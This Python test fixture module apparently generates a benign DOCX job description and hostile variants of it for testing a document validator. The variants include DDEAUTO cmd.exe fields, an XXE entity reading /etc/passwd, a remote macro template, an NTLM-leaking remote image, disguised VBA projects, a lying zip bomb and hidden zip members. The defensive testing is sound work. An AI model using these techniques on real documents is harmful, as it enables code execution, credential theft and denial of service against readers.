"""DOCX files made by python-docx, hostile variants of them, and zip tricks (ODT and PDF: odts.py, pdfs.py).

python-docx starts from a template saved by Word and odfpy writes what
LibreOffice writes, so these carry the parts, relationships, namespaces and
fields that real files have. Each hostile variant changes one thing in a
real document, so that a test shows which rule refuses it.
"""

import io
import struct
import zipfile
import zlib

import docx
from docx.opc.constants import RELATIONSHIP_TYPE
from docx.oxml import OxmlElement
from docx.oxml.ns import qn


def png_1x1():
    """The smallest real PNG: one white pixel."""

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00\xff\xff\xff"))
        + chunk(b"IEND", b"")
    )


# DOCX -------------------------------------------------------------------------------


def real_docx():
    """A job description as Word would save it: headings, a list, a table, a picture, a link, a page-number field."""
    document = docx.Document()
    document.core_properties.title = "Data analyst (housing)"
    document.add_heading("Data analyst (housing)", level=1)
    document.add_paragraph("Turn repairs data into plain answers for residents and councillors.")
    document.add_paragraph("Build and keep the repairs dashboard", style="List Bullet")
    grid = document.add_table(rows=2, cols=2)
    grid.cell(0, 0).text, grid.cell(0, 1).text = "Grade", "PO4"
    grid.cell(1, 0).text, grid.cell(1, 1).text = "Salary", "£42,000 to £48,000"
    document.add_picture(io.BytesIO(png_1x1()))
    paragraph = document.add_paragraph("Apply on ")
    link_id = paragraph.part.relate_to("https://www.camden.gov.uk/jobs", RELATIONSHIP_TYPE.HYPERLINK, is_external=True)
    hyperlink = OxmlElement("w:hyperlink")
    hyperlink.set(qn("r:id"), link_id)
    run = OxmlElement("w:r")
    run_text = OxmlElement("w:t")
    run_text.text = "the council's jobs site"
    run.append(run_text)
    hyperlink.append(run)
    paragraph._p.append(hyperlink)
    footer = document.sections[0].footer.paragraphs[0]
    footer.text = "Page "
    page_field = OxmlElement("w:fldSimple")
    page_field.set(qn("w:instr"), " PAGE ")
    footer._p.append(page_field)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def members(data):
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {info.filename: archive.read(info) for info in archive.infolist()}


def rezip(data, *, replace=None, add=()):
    """The same archive with some members' contents replaced and others added."""
    replace = replace or {}
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, contents in members(data).items():
            archive.writestr(name, replace.get(name, contents))
        for name, contents in add:
            archive.writestr(name, contents)
    return buffer.getvalue()


def edit(data, name, old, new):
    part = members(data)[name]
    assert old in part, f"{old!r} not in {name}"
    return rezip(data, replace={name: part.replace(old, new, 1)})


def add_relationship(data, rels_name, relationship, *, source_rels_skeleton=None):
    """A relationship added to a .rels part (created when the part has none yet)."""
    parts = members(data)
    rels = parts.get(rels_name) or (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
    )
    rels = rels.replace(b"</Relationships>", relationship + b"</Relationships>")
    if rels_name in parts:
        return rezip(data, replace={rels_name: rels})
    return rezip(data, add=[(rels_name, rels)])


OLE_COMPOUND_FILE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
MAIN_TYPE = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def docx_with_macro_relationship():
    """A VBA project related to the document under an innocent name, with an innocent content type."""
    relationship = (
        b'<Relationship Id="rIdM" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
        b'Target="theme/colours.xml"/>'
    )
    return add_relationship(real_docx(), "word/_rels/document.xml.rels", relationship)


def docx_with_macro_content_type():
    """A DOCM renamed .docx: the main part declared macro-enabled, nothing else named after macros."""
    return edit(
        real_docx(), "[Content_Types].xml", MAIN_TYPE, b"application/vnd.ms-word.document.macroEnabled.main+xml"
    )


def docx_with_ole_container_under_image_name():
    """A compound file (what vbaProject.bin and OLE objects are) stored as word/media/image9.png."""
    return rezip(real_docx(), add=[("word/media/image9.png", OLE_COMPOUND_FILE)])


def docx_with_remote_template():
    """Word's settings point to a template on another server: Word fetches it, and runs its macros."""
    data = edit(real_docx(), "word/settings.xml", b"</w:settings>", b'<w:attachedTemplate r:id="rIdT"/></w:settings>')
    relationship = (
        f'<Relationship Id="rIdT" Type="{REL}attachedTemplate" '
        'Target="https://templates.example/jd.dotm" TargetMode="External"/>'
    ).encode()
    return add_relationship(data, "word/_rels/settings.xml.rels", relationship)


def docx_with_remote_image():
    """A picture fetched from a file share when the document opens: it reports who opened it."""
    relationship = (
        f'<Relationship Id="rIdX" Type="{REL}image" Target="file://files.example/share/logo.png" '
        'TargetMode="External"/>'
    ).encode()
    return add_relationship(real_docx(), "word/_rels/document.xml.rels", relationship)


def docx_with_link_to_a_file():
    relationship = (
        f'<Relationship Id="rIdF" Type="{REL}hyperlink" Target="file:///C:/Windows/System32/cmd.exe" '
        'TargetMode="External"/>'
    ).encode()
    return add_relationship(real_docx(), "word/_rels/document.xml.rels", relationship)


def docx_with_body(xml):
    """The real document with `xml` (WordprocessingML) added at the start of its body."""
    return edit(real_docx(), "word/document.xml", b"<w:body>", b"<w:body>" + xml)


def complex_field(*instruction_pieces):
    runs = b"".join(
        b'<w:r><w:instrText xml:space="preserve">' + piece + b"</w:instrText></w:r>" for piece in instruction_pieces
    )
    return (
        b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + runs
        + b'<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>Data analyst</w:t></w:r>'
        b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


DDE_SIMPLE_FIELD = (
    b'<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc.exe&quot; ">'
    b"<w:r><w:t>Data analyst</w:t></w:r></w:fldSimple></w:p>"
)
DDE_SPLIT_FIELD = complex_field(b" dd", b"eauto c:\\\\windows\\\\system32\\\\cmd.exe ", b'"/k calc.exe"')
# { { QUOTE 68 68 69 } "c:\\...\\cmd.exe" }: the field's type is spelt by another field.
COMPUTED_FIELD = (
    b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    + complex_field(b" QUOTE 68 68 69 ")[len(b"<w:p>") : -len(b"</w:p>")]
    + b'<w:r><w:instrText xml:space="preserve"> "c:\\\\windows\\\\system32\\\\cmd.exe" </w:instrText></w:r>'
    b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)
OLE_OBJECT = (
    b'<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" '
    b'Type="Embed" ProgID="Package" ShapeID="_x0000_i1025" r:id="rId1"/></w:object></w:r></w:p>'
)
ALT_CHUNK = b'<w:altChunk r:id="rIdA"/>'


def docx_with_doctype(part="word/document.xml"):
    """An XML part with a DOCTYPE that declares an entity, used in the text."""
    original = members(real_docx())[part]
    declaration, rest = original.split(b"?>", 1)
    hostile = declaration + b'?><!DOCTYPE root [<!ENTITY role "Data analyst">]>' + rest
    if part == "word/document.xml":
        hostile = hostile.replace(b"<w:body>", b"<w:body><w:p><w:r><w:t>&role;</w:t></w:r></w:p>", 1)
    return rezip(real_docx(), replace={part: hostile})


def docx_with_utf16_doctype():
    """The DOCTYPE in UTF-16: invisible to a search for the bytes "<!DOCTYPE", not to a parser."""
    original = members(real_docx())["word/document.xml"].decode()
    declaration, rest = original.split("?>", 1)
    hostile = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE w:document [<!ENTITY x "y">]>' + rest
    return rezip(real_docx(), replace={"word/document.xml": hostile.encode("utf-16")})


def docx_with_doctype_in_unnamed_part():
    """XML under a name that does not say so: parsed all the same, because it starts like XML."""
    hostile = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
    return rezip(real_docx(), add=[("customXml/item2.dat", hostile)])


def docx_with_activex_control():
    return rezip(real_docx(), add=[("word/activeX/activeX1.xml", b'<?xml version="1.0"?><ax:ocx xmlns:ax="x"/>')])


# Zip tricks -------------------------------------------------------------------------


def raw_zip(entries, *, hidden=b""):
    """A zip written by hand, for directories that lie: (name, deflated data, declared size, declared crc).

    `hidden` goes between the third and fourth members, mentioned by no directory entry.
    """
    body, directory = b"", b""
    for index, (name, deflated, declared_size, declared_crc) in enumerate(entries):
        if index == 3:
            body += hidden
        encoded = name.encode()
        header = struct.pack(
            "<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 0, declared_crc, len(deflated), declared_size, len(encoded), 0
        )
        directory += struct.pack(
            "<4sHHHHHHIIIHHHHHII",
            b"PK\x01\x02",
            20,
            20,
            0,
            8,
            0,
            0,
            declared_crc,
            len(deflated),
            declared_size,
            len(encoded),
            0,
            0,
            0,
            0,
            0,
            len(body),
        )
        directory += encoded
        body += header + encoded + deflated
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(entries), len(entries), len(directory), len(body), 0)
    return body + directory + end


def deflate(data):
    compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    return compressor.compress(data) + compressor.flush()


def honest_entries(data):
    return [(name, deflate(body), len(body), zlib.crc32(body)) for name, body in members(data).items()]


def lying_zip_bomb_docx(megabytes=200):
    """A DOCX whose padding part says it is 1 kB (with the checksum of its first kB) and inflates to `megabytes`.

    Python's zipfile stops at the declared size and finds the checksum right;
    a reader that follows the compressed stream inflates all of it.
    """
    compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    zeros = b"\0" * (1024 * 1024)
    padding = b"".join(compressor.compress(zeros) for _ in range(megabytes)) + compressor.flush()
    entries = honest_entries(real_docx())
    entries.append(("word/media/padding.bin", padding, 1024, zlib.crc32(b"\0" * 1024)))
    return raw_zip(entries)


def docx_with_nested_zip():
    return rezip(real_docx(), add=[("word/media/image5.png", real_docx())])


def docx_with_duplicate_part():
    """Two word/document.xml members, differing only in case: a checker reads one, Word may read the other."""
    return rezip(real_docx(), add=[("word/Document.xml", members(real_docx())["word/document.xml"])])


def docx_with_hidden_member():
    """A member between two others that the central directory does not mention."""
    entries = honest_entries(real_docx())
    # A whole member, a VBA project, that only a reader walking the local headers would find.
    smuggled = raw_zip([("word/vbaProject.bin", deflate(OLE_COMPOUND_FILE), 512, zlib.crc32(OLE_COMPOUND_FILE))])
    local_entry = smuggled[: smuggled.index(b"PK\x01\x02")]
    return raw_zip(entries, hidden=local_entry)
